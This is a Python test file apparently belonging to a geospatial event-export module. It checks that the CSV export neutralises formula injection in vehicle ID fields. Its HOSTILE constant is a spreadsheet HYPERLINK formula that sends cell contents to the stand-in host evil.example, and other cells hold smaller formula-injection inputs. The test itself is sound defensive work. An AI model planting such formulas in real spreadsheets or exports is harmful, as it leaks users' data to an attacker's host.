"""Event exports: text a spreadsheet would run as a formula goes out inert in CSV."""

import csv

from support.alerts import events

from geoint.serve.export import export_events

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_csv_export_neutralises_formulas(tmp_path):
    rows = events(
        {"event_id": "E1", "vehicle_id": HOSTILE},
        {"event_id": "E2", "vehicle_id": "@SUM(1+1)", "other_vehicle_id": "-2+3"},
        {"event_id": "E3", "vehicle_id": "BJ-1234"},
    )
    path = tmp_path / "events.csv"
    assert export_events(rows, path, "csv") == 3
    exported = {row["event_id"]: row for row in csv.DictReader(path.open(encoding="utf-8"))}
    assert exported["E1"]["vehicle_id"] == "'" + HOSTILE
    assert exported["E2"]["vehicle_id"] == "'@SUM(1+1)"
    assert exported["E2"]["other_vehicle_id"] == "'-2+3"
    assert exported["E3"]["vehicle_id"] == "BJ-1234"
    assert float(exported["E3"]["lat"]) == 6.5  # numbers stay numbers
